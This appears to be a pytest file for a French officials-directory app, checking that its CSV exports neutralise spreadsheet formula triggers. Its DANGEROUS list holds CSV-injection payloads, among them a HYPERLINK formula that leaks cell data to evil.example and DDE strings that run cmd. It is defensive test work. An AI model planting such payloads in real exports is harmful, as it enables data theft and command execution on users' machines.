"""Every CSV written for people is inert in a spreadsheet: OWASP's formula triggers, as a corpus."""

import csv
import io
import subprocess

import pytest
from sqlalchemy.orm import Session

from app.officials.models import Official, OfficialKind
from app.officials.schemas import OfficialFilter
from app.officials.service import officials_csv, select_officials
from app.spreadsheet import FORMULA_TRIGGERS, SafeWriter, neutralise

# Payloads from the usual CSV-injection corpora, each led by one of the triggers.
DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "=cmd|' /C calc'!A0",
    "+33 1 40 63 60 00",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-10",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\tplain after a tab",
    "\r=1+1",
    "\rplain after a carriage return",
    '="""quoted"""',
    "==1",
]
HARMLESS = ["", "Jean-Luc", "jean-luc@example.fr", "2A", "01000", "a=b", "Paris 75001", "'déjà"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_each_trigger_is_neutralised(text: str) -> None:
    assert text.startswith(FORMULA_TRIGGERS)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_as_is(text: str) -> None:
    assert neutralise(text) == text


def test_owasp_list_is_complete() -> None:
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


def test_writer_neutralises_every_cell_and_round_trips() -> None:
    buffer = io.StringIO(newline="")
    SafeWriter(buffer, delimiter=";", lineterminator="\r\n").writerows(
        [DANGEROUS, HARMLESS, [None, 3, "=x"]]
    )
    rows = list(csv.reader(io.StringIO(buffer.getvalue(), newline=""), delimiter=";"))
    assert rows[0] == ["'" + text for text in DANGEROUS]
    assert rows[1] == HARMLESS
    assert rows[2] == ["", "3", "'=x"]


def test_officials_export_is_inert(session: Session) -> None:
    for number, payload in enumerate(DANGEROUS):
        session.add(
            Official(
                kind=OfficialKind.deputy,
                source_id=f"PA9{number:05d}",
                civility="M.",
                first_name=payload,
                last_name=f"Nom{number}",
                search_name=f"nom{number}",
                phone="+33 1 40 63 60 00",
            )
        )
    session.flush()
    text = officials_csv(select_officials(session, filters=OfficialFilter(active=None)))
    rows = list(csv.DictReader(io.StringIO(text.decode("utf-8-sig"), newline=""), delimiter=";"))
    by_name = {row["Nom"]: row for row in rows}
    for number, payload in enumerate(DANGEROUS):
        assert by_name[f"Nom{number}"]["Prénom"] == "'" + payload
        assert by_name[f"Nom{number}"]["Téléphone"] == "'+33 1 40 63 60 00"


def test_every_csv_writer_in_the_app_is_known() -> None:
    """A new `csv.writer` for people must go through SafeWriter; these write the app's own
    reference files (read back by its importers, where « +33… » must stay a phone number)."""
    found = subprocess.run(
        ["grep", "-rln", "csv.writer\\|csv.DictWriter", "app"], capture_output=True, text=True
    ).stdout.split()
    assert sorted(found) == [
        "app/bodies/project.py",
        "app/geography/project_files.py",
        "app/officials/importers/project.py",
        "app/spreadsheet.py",
    ]
